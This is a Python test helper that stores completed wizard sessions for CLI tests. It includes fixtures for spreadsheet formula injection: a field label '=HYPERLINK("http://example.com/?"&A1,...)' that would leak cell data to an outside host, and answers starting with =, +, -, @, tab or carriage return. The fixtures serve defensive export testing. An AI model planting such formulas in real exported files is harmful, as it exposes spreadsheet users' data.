"""Sessions stored for real through the core in a data folder that is then closed, so
that a CLI subprocess can open it."""

from __future__ import annotations

from pathlib import Path

from tests.wizard_files import FOUR_STEPS, import_text
from wizard_desktop.core import sessions
from wizard_desktop.core.wizards import import_bundled_wizards
from wizard_desktop.store.backups import run_daily_backup
from wizard_desktop.store.database import close_database, open_database, raw_connection

FORMULA_LABEL = '=HYPERLINK("http://example.com/?"&A1,"Click")'
FORMULAS = """\
format_version: 1
id: formulas
title: Formulas
steps:
  - id: one
    title: One
    fields:
      - {id: a, type: text, label: '=HYPERLINK("http://example.com/?"&A1,"Click")'}
      - {id: b, type: text, label: B}
      - {id: c, type: text, label: C}
      - {id: d, type: text, label: D}
      - {id: e, type: text, label: E}
      - {id: f, type: text, label: F}
      - {id: n, type: number, label: N, min: -10}
"""
FORMULA_ANSWERS = {"a": "=1+2", "b": "+3", "c": "-4+1", "d": "@SUM(A1)", "e": "\tx", "f": "\rx"}


def completed_session(data_dir: Path, wizard: str = FOUR_STEPS) -> str:
    """A completed session in `data_dir`, stored through the core; the store is closed
    again so the CLI can open it."""
    open_database(data_dir)
    try:
        import_bundled_wizards()
        wizard_id = import_text(data_dir, wizard)
        info = sessions.start_session(wizard_id, "Done")
        if wizard_id == "formulas":
            sessions.complete_session(info.id, "one", {**FORMULA_ANSWERS, "n": -5})
        else:
            for step, answers in [
                ("one", {"name": "Ada"}),
                ("two", {"size": "small"}),
                ("three", {"count": 2}),
            ]:
                sessions.save_step(info.id, step, answers)
            sessions.complete_session(info.id, "four", {"agree": True})
        run_daily_backup(raw_connection(), data_dir)
    finally:
        close_database()
    return info.id
